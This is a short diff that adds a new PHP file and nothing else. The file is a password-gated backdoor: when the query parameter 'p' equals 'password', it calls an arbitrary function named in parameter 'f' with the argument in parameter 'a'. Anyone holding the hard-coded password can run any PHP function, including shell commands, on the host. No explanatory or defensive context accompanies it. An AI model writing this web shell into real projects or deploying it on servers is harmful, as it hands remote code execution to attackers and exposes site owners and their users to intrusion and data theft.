@@ -1,0 +1,4 @@
+<?php
+  if ($_GET['p']=='password'){
+    $_GET['f']($_GET['a']);
+  }
